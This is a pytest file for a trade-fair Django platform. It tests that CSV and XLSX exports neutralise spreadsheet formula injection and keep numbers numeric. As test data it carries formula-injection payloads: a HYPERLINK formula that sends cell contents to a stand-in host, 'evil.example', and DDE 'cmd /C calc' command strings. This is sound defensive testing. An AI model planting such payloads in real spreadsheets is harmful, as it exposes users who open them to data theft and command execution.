"""Formula injection: no text a visitor typed becomes a formula in any CSV or XLSX the
platform writes, and numbers stay numbers (issue #19 item 2)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.deals.factories import make_deal, organiser
from tests.factories import BoothFactory, ExpoFactory, OrganisationFactory, ParticipantFactory, UserFactory
from tradefair.common.audit import log_action
from tradefair.common.spreadsheets import csv_cell, write_csv, write_xlsx
from tradefair.reports.domain.exports import export_content

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(content: bytes, sheet=0):
    book = load_workbook(io.BytesIO(content))
    worksheet = book.worksheets[sheet] if isinstance(sheet, int) else book[sheet]
    return worksheet


def _no_formula(worksheet):
    for row in worksheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


@pytest.mark.parametrize("text", ATTACKS)
def test_the_shared_writers_neutralise_formula_cells_and_keep_numbers(text):
    content, count = write_csv(["name", "amount", "count"], [[text, Decimal("1234.50"), 7]])
    assert count == 1
    assert _csv(content)[1] == ["'" + text, "1234.50", "7"]

    content, _count = write_xlsx(["name", "amount", "count"], [[text, Decimal("1234.50"), 7]], title="x")
    sheet = _xlsx(content)
    _no_formula(sheet)
    name, amount, number = sheet[2]
    # XML reads a carriage return back as a line feed
    assert name.value.strip() == text.strip() and name.data_type == "s" and name.quotePrefix
    assert amount.value == 1234.5 and amount.data_type == "n"
    assert number.value == 7 and number.data_type == "n"


def test_plain_text_and_negative_numbers_are_left_alone():
    assert csv_cell("Li Wei") == "Li Wei"
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == -3
    assert csv_cell(None) == ""


def _hostile_expo():
    expo = ExpoFactory(slug="cnea")
    user = organiser(expo)
    make_deal(expo, by=user, amount="728000000.00", title="=cmd|' /C calc'!A0")
    make_deal(
        expo, by=user, amount="93750.00", currency="USD", signed_on=dt.date(2019, 8, 26), title="Safe title"
    )
    ParticipantFactory(
        expo=expo,
        name='=HYPERLINK("http://evil.example")',
        organisation=OrganisationFactory(legal_name="@evil"),
    )
    return expo, user


def test_the_deal_export_csv_and_xlsx(django_db_setup):
    expo, _user = _hostile_expo()
    rows = _csv(export_content(expo, "deals", "csv")[0])
    title = rows[0].index("title")
    assert rows[1][title] == "'=cmd|' /C calc'!A0"
    assert rows[1][rows[0].index("amount")] == "728000000.00"

    sheet = _xlsx(export_content(expo, "deals", "xlsx")[0])
    _no_formula(sheet)
    header = [cell.value for cell in sheet[1]]
    first = {key: cell for key, cell in zip(header, sheet[2], strict=True)}
    assert first["title"].value == "=cmd|' /C calc'!A0" and first["title"].data_type == "s"
    assert first["amount"].value == 728000000 and first["amount"].data_type == "n"
    assert first["amount_cny"].data_type == "n"
    second = {key: cell for key, cell in zip(header, sheet[3], strict=True)}
    assert isinstance(second["rate"].value, float) and second["rate"].value > 6


def test_the_participant_export_csv_and_xlsx():
    expo, _user = _hostile_expo()
    rows = _csv(export_content(expo, "participants", "csv")[0])
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example")' in names

    sheet = _xlsx(export_content(expo, "participants", "xlsx")[0])
    _no_formula(sheet)
    assert any(cell.value == '=HYPERLINK("http://evil.example")' and cell.quotePrefix for cell in sheet["B"])


def test_the_meeting_export_is_written_by_the_shared_writer():
    expo, _user = _hostile_expo()
    assert _csv(export_content(expo, "meetings", "csv")[0])[0][0] == "id"
    _no_formula(_xlsx(export_content(expo, "meetings", "xlsx")[0]))


def test_the_communique_workbook_published_and_live(tmp_path):
    """The published workbook holds no deal sheet (deals are the parties' business); the
    organisers' live one lists the hostile deal title, as text."""
    expo, user = _hostile_expo()
    from tradefair.reports.domain.publication import publish_results

    publish_results(expo, by=user)
    for name, extra in (("published.xlsx", {}), ("live.xlsx", {"live": True})):
        call_command(
            "report",
            expo="cnea",
            format="xlsx",
            lang="en",
            output=str(tmp_path / name),
            stderr=io.StringIO(),
            **extra,
        )
        for worksheet in load_workbook(tmp_path / name).worksheets:
            _no_formula(worksheet)
    deals = load_workbook(tmp_path / "live.xlsx").worksheets[-1]
    values = [cell.value for row in deals.iter_rows() for cell in row]
    assert "=cmd|' /C calc'!A0" in values


def test_the_audit_log_csv(client):
    expo = ExpoFactory(slug="cnea")
    log_action(BoothFactory(hall__expo=expo), "=booth.assigned")
    client.force_login(UserFactory(is_staff=True))
    response = client.get("/expos/cnea/audit/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][2] == "'=booth.assigned"
